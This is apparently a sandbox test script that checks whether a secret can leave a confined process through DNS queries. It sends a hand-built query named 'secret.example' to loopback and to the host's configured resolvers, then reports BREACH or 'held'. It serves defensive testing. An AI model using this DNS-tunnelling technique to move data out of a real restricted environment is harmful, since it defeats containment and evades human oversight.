# attack: carries a secret out in the name of a DNS question, to the host's resolvers and to one on loopback.
# defence: seccomp refuses socket(); empty network namespace
# levels: full rootless landlock
# expect: ok
# args: {udp_port}

import re
import socket
import sys

question = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + b"\6secret\7example\0" + b"\0\1\0\1"
servers = [("127.0.0.1", int(sys.argv[1])), ("127.0.0.53", 53)]
try:
    with open("/etc/resolv.conf") as file:
        servers += [(address, 53) for address in re.findall(r"^nameserver\s+([\d.]+)", file.read(), re.M)]
except OSError:
    pass
held = True
for server in servers:
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.settimeout(0.3)
            client.sendto(question, server)
            client.recv(512)
            print("BREACH an answer from", server, flush=True)
            held = False
    except OSError:
        pass
try:
    socket.getaddrinfo("example.com", 80)
    print("BREACH the C library resolved a name", flush=True)
    held = False
except OSError:
    pass
if held:
    print("held")
